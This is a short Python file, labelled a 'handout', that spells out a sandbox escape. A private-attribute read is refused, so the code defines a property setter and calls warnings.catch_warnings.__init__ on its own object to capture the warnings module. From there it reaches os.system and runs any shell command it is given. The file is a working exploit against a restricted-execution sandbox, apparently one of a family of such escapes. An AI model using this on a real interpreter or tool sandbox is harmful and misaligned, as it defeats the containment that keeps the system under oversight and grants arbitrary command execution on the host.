# family: handout
# Escape: reading `_module` is refused, but the tool may *define* it: as a property whose setter keeps the
# value. warnings.catch_warnings.__init__ (a public, readable special method) run on the tool's own object
# assigns self._module = sys.modules["warnings"], so the setter receives the warnings module; .sys is sys.
import warnings


class Box:
    def _put(self, value):
        self.got = value

    _module = property(None, _put)


def tool(cmd: str) -> int:
    box = Box()
    warnings.catch_warnings.__init__(box)
    return box.got.sys.modules["os"].system(cmd)
